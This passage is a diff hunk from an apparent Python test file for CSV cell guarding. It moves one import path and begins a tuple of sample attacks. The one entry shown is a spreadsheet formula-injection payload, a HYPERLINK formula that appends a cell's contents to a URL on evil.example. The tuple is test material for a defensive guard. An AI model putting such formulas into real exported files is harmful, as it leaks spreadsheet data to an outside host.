@@ -13,7 +13,7 @@ import pytest
 from server.builders import make_return
 
 from inspector_app.csv_cells import guard_cell, unguard_cell
-from inspector_app.domain.returns_io import parse_returns_csv, write_returns_csv
+from inspector_app.records.returns_io import parse_returns_csv, write_returns_csv
 
 ATTACKS = (
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
